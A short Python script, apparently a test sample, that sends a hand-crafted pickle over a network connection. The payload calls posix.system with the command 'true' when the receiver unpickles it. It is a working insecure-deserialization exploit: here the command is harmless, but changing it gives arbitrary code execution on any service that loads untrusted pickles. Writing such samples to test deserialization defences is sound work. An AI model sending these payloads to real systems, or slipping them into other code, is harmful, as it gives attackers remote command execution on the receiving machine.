"""Send a pickle that runs a program when it is loaded."""

from raw import connection, framed

HARM = "died"


def attack():
    connection().sendall(framed(b"\x80\x04cposix\nsystem\n(S'true'\ntR."))
    return 42
